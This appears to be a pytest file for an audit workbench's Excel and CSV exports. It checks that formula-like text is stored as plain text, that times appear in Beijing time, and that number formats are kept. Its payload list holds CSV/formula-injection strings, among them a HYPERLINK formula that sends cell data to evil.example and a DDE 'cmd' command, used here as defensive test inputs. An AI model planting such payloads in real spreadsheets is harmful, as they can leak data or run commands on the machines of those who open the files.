"""Every workbook the workbench hands out: no live formulas whoever wrote the text, Beijing time, number formats."""

import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from jiandu.flags.dispositions import update_flag
from jiandu.warehouse import connect
from tests.plugins.jiandu.workbench.workbench_data import client_for

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


def formulas(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element of every sheet of the workbook."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [f for n in z.namelist() if n.startswith("xl/worksheets/")
                for f in re.findall(r"<f[ >].*?</f>", z.read(n).decode())]


def _plant(flags) -> None:
    """Formula-like text from a source system (subject names) and from users (a note, a responsible unit)."""
    with connect() as conn:
        for table in ("flagged_items", "flag_run_results"):
            for payload, key in ((PAYLOADS[0], "W03"), (PAYLOADS[3], "W04")):
                conn.execute(f"update audit.{table} set subject_name = %s where flag_id = %s", (payload, flags[key]))
        conn.execute("update audit.flagged_items set amount = -1234.5 where flag_id = %s", (flags["W06"],))
    update_flag(flags["W03"], "group_auditor", status="核实中", assignee=PAYLOADS[1])
    update_flag(flags["W03"], "group_auditor", status="确认问题", note=PAYLOADS[2])
    update_flag(flags["W03"], "group_auditor", status="整改中", responsible_unit=PAYLOADS[4],
                rectification_due="2026-12-31", amount_recovered="1000")


def test_flag_export_stores_formula_like_text_as_text(flags):
    _plant(flags)
    r = client_for("admin").get("/flags/export.xlsx?suppressed=all")
    assert r.status_code == 200
    assert formulas(r.content) == []
    ws = load_workbook(io.BytesIO(r.content))["疑点清单"]
    header = [c.value for c in ws[3]]
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=4)}
    w03 = rows[flags["W03"]]
    for label, expected in [("对象", PAYLOADS[0]), ("核查人", PAYLOADS[1]), ("核查说明", PAYLOADS[2]),
                            ("责任单位", PAYLOADS[4].strip())]:  # dispositions strip blanks
        assert w03[label].value == expected and w03[label].data_type == "s", label
        assert w03[label].quotePrefix, label  # stays text when edited in Excel
    assert rows[flags["W04"]]["对象"].value == PAYLOADS[3] and rows[flags["W04"]]["对象"].quotePrefix
    # a negative number is a number, not text
    assert rows[flags["W06"]]["涉及金额（元）"].value == -1234.5
    assert rows[flags["W06"]]["涉及金额（元）"].data_type == "n"
    assert rows[flags["W03"]]["涉及金额（元）"].number_format == "#,##0.00"
    assert rows[flags["W03"]]["清退挽回金额（元）"].number_format == "#,##0.00"
    due = rows[flags["W03"]]["整改期限"]
    assert due.is_date and due.value.date() == date(2026, 12, 31) and due.number_format == "yyyy-mm-dd"
    assert rows[flags["W03"]]["首次发现"].is_date


def test_flag_export_shows_beijing_time_labelled(flags):
    update_flag(flags["W01"], "admin", status="核实中", assignee="张三")
    with connect() as conn:
        stored = conn.execute("select updated_at at time zone 'Asia/Shanghai' from audit.dispositions"
                              " where flag_id = %s", (flags["W01"],)).fetchone()[0]
    r = client_for("admin").get("/flags/export.xlsx")
    ws = load_workbook(io.BytesIO(r.content))["疑点清单"]
    header = [c.value for c in ws[3]]
    assert "最后修改时间（北京时间）" in header
    assert "北京时间" in ws["A1"].value
    row = next(row for row in ws.iter_rows(min_row=4) if row[0].value == flags["W01"])
    cell = row[header.index("最后修改时间（北京时间）")]
    assert isinstance(cell.value, datetime) and cell.number_format == "yyyy-mm-dd hh:mm"
    assert abs((cell.value - stored).total_seconds()) < 1  # Beijing wall time, not UTC
    assert row[header.index("检出状态")].value == "在检"


def test_weekly_workbook_stores_formula_like_text_as_text(flags):
    _plant(flags)
    r = client_for("admin").get("/weekly.xlsx?week=2026-W45")
    assert r.status_code == 200
    assert formulas(r.content) == []
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == PAYLOADS[0]]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_dispositions_csv_guards_formulas_and_imports_back(flags, tmp_path):
    from jiandu.flags.dispositions import bulk_update_from_csv, export_csv, list_flags

    _plant(flags)
    text = export_csv(list_flags(suppressed=None))
    assert "'" + PAYLOADS[0].replace('"', '""') in text and "'" + PAYLOADS[2] in text
    assert ",-1234.50," in text or ",-1234.5," in text  # the number is not guarded
    path = tmp_path / "back.csv"
    path.write_text(text, encoding="utf-8")
    bulk_update_from_csv(path, "group_auditor")  # nothing changes: the guard is removed on the way back in
    with connect() as conn:
        note, versions = conn.execute("select note, version from audit.dispositions where flag_id = %s",
                                      (flags["W03"],)).fetchone()
    assert note == PAYLOADS[2] and versions == 3


def test_cell_helper_units():
    from openpyxl import Workbook

    from jiandu.reports.xlsx_cells import csv_text, is_formula_like, set_cell, strip_csv_guard

    assert [is_formula_like(p) for p in PAYLOADS] == [True] * len(PAYLOADS)
    assert not is_formula_like(-5) and not is_formula_like(Decimal("-5")) and not is_formula_like("张三=1")
    assert strip_csv_guard(csv_text("=1+1")) == "=1+1" and strip_csv_guard("'abc") == "'abc"
    ws = Workbook().active
    assert set_cell(ws, 1, 1, "=1+1").data_type == "s"
    assert set_cell(ws, 1, 2, Decimal("-3.5")).data_type == "n"
